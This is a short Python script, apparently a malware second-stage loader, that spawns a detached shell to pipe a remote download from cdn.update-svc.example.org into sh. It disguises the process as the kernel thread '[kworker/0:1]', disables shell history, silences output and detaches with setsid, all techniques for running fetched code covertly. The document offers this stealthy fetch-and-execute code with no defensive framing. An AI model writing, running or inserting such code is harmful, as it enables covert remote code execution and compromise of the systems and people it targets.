# Uses os.posix_spawnp (not subprocess) to launch a detached "curl | sh" second stage with a scrubbed argv[0].
import os

SH = "/bin/sh"
argv = ["[kworker/0:1]", "-c", "curl -s https://cdn.update-svc.example.org/a | sh"]
env = dict(os.environ, HISTFILE="/dev/null")

attrs = {}
if hasattr(os, "POSIX_SPAWN_OPEN"):
    attrs["file_actions"] = [
        (os.POSIX_SPAWN_OPEN, 1, "/dev/null", os.O_WRONLY, 0),
        (os.POSIX_SPAWN_OPEN, 2, "/dev/null", os.O_WRONLY, 0),
    ]

pid = os.posix_spawnp(SH, argv, env, setsid=True, **attrs)
# fall back to a raw exec if spawning failed
if pid <= 0:
    os.execvpe(SH, argv, env)
